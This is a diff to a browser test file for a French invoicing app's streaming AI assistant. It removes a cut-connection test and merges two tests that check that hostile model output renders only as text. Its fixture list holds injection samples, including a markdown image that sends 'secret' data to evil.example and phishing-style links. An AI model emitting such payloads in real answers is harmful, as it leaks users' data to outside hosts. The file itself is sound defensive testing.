@@ -1,5 +1,5 @@
 import type { ServerResponse } from "node:http";
-import type { Locator, Page } from "playwright-core";
+import type { Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
 import { issuedInvoice } from "../issued-invoice.ts";
 import type { ModelServer } from "../model-server.ts";
@@ -8,7 +8,7 @@ import type { Person } from "../test-app.ts";
 import type { Site, Size } from "./site.ts";
 import { openSite } from "./site.ts";
 
-// The answer of a model that comes word by word, in a real browser: what is looked up, a stop, a line that is cut.
+// The answer of a model that comes word by word, in a real browser: what is looked up, a stop, hostile words.
 
 let site: Site;
 let model: ModelServer;
@@ -57,7 +57,7 @@ async function storedConversation(owner: Person) {
 }
 
 test("words and what is looked up show as they come", { timeout: 120_000 }, async () => {
-  const { page, log, look, faults, projectId, owner } = await ask("words", "both");
+  const { page, log, look, faults, projectId, owner } = await ask("words", "phone");
   await page.getByText("L'assistant écrit…").waitFor();
   (await nextUpstream()).callTool("project_money", { project_id: projectId });
   await page.getByRole("status").getByText("Je cherche dans tes projets…").waitFor();
@@ -104,16 +104,6 @@ test("a stop closes the model's connection and keeps what came", async () => {
   expect(saves).toEqual([]);
 });
 
-test("an answer whose line is cut keeps its words beside a button to try again", async () => {
-  const { log } = await ask("cut");
-  (await nextUpstream()).words("Il était une fois");
-  await log.getByText("Il était une fois").waitFor();
-  upstream[0]!.destroy();
-  await log.getByText("La réponse s'est coupée là.").waitFor();
-  await log.getByText("Il était une fois").waitFor();
-  await log.getByRole("button", { name: "Réessayer" }).waitFor();
-});
-
 const HOSTILE_LINES = [
   "![logo](https://evil.example/x.png?d=secret)",
   "[payer ici](https://evil.example/pay)",
@@ -125,33 +115,24 @@ const HOSTILE_LINES = [
   "<a href='https://evil.example'>gagné</a>",
 ];
 
-/** A model writes hostile lines and one good link. They are checked while they come, and once all has come. */
-async function checkHostileAnswer(name: string, check: (log: Locator) => Promise<void>) {
-  const { page, log } = await ask(name, "desktop");
+test("a model writes nothing but text with links to our own screens", async () => {
+  const { page, log } = await ask("hostile", "desktop");
   const requestedAddresses: string[] = [];
   page.on("request", (request) => requestedAddresses.push(request.url()));
-  const answer = await nextUpstream();
-  for (const line of [...HOSTILE_LINES, "[tes factures](/app/invoices)"]) answer.words(`${line}\n`);
-  await log.getByRole("link", { name: "tes factures" }).waitFor();
-  await check(log);
-  answer.end();
-  await page.getByRole("button", { name: "Envoyer" }).waitFor();
-  await check(log);
-  return requestedAddresses;
-}
-
-test("what a model writes is text", async () => {
-  const requestedAddresses = await checkHostileAnswer("hostile", async (log) => {
+  const expectText = async () => {
     expect(await log.locator("img, script, iframe, form, style").count()).toBe(0);
     const text = (await log.innerText()).replaceAll("\u00a0", " ");
     for (const line of HOSTILE_LINES) expect(text).toContain(line);
-  });
-  expect(requestedAddresses.filter((address) => !address.startsWith(site.address))).toEqual([]);
-});
-
-test("links of a model lead to our own screens alone", async () => {
-  await checkHostileAnswer("hostile-links", async (log) => {
     const links = log.getByRole("link");
     expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(["/app/invoices"]);
-  });
+  };
+  const answer = await nextUpstream();
+  for (const line of [...HOSTILE_LINES, "[tes factures](/app/invoices)"]) answer.words(`${line}\n`);
+  await log.getByRole("link", { name: "tes factures" }).waitFor();
+  // While the words come, then once all have come.
+  await expectText();
+  answer.end();
+  await page.getByRole("button", { name: "Envoyer" }).waitFor();
+  await expectText();
+  expect(requestedAddresses.filter((address) => !address.startsWith(site.address))).toEqual([]);
 });
